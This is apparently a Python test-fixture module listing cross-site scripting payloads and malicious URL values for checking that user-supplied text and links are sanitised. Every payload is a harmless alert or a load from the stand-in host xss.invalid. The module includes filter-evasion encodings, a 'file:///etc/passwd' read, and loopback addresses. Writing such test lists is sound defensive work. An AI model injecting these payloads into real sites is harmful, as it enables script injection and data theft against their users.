"""Classic cross-site scripting payloads, for every place that shows user text.

``XSS_PAYLOADS`` is text a person might type (a bio, a chat message, a display
name): HTML, markdown and encoding tricks. ``XSS_URLS`` are values for URL
fields (social links, link targets). A payload that ever runs calls
``alert(1)`` (or loads ``//xss.invalid``), so a browser test can fail on the
first dialog or request to that host. Nothing here is specific to one renderer.
"""

from __future__ import annotations

XSS_PAYLOADS: list[str] = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//xss.invalid/x.js></script>",
    "<script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script type="text/javascript">alert(1)</script>',
    # event-handler attributes
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<div onmouseover=alert(1)>hover</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="#" onclick="alert(1)">click</a>',
    # frames, objects and forms
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<math><a xlink:href="javascript:alert(1)">x</a></math>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # javascript: URLs in HTML, in various encodings
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    # CSS
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(//xss.invalid/x)}</style>",
    '<link rel="stylesheet" href="javascript:alert(1)">',
    # markdown links and images
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org" onmouseover="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    "![x](https://example.org/x.png)",
    '![x" onerror="alert(1)](x)',
    "[![x](x)](javascript:alert(1))",
    # autolinks
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://example.org/"onmouseover="alert(1)>',
    "https://example.org/<script>alert(1)</script>",
    'https://example.org/"><script>alert(1)</script>',
    # entities, nesting and unclosed tags
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<b><i>unclosed <script>alert(1)",
    "<a href=javascript:alert(1)>unclosed",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "**<img src=x onerror=alert(1)>**",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    # template injection (must stay text)
    "{{ 7*7 }} {% raw %}{{ config }}{% endraw %}",
    "${alert(1)}",
]

#: Values for URL fields: each must be refused, or shown without ever being a
#: clickable ``javascript:``/``data:``/``vbscript:`` target.
XSS_URLS: list[str] = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "//xss.invalid/x",
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/' onmouseover='alert(1)",
    "https://user:pass@example.org/",
    "https://x.com@xss.invalid/",
    "http://127.0.0.1/",
    "http://2130706433/",
    "https://xn--80ak6aa92e.com/",
]
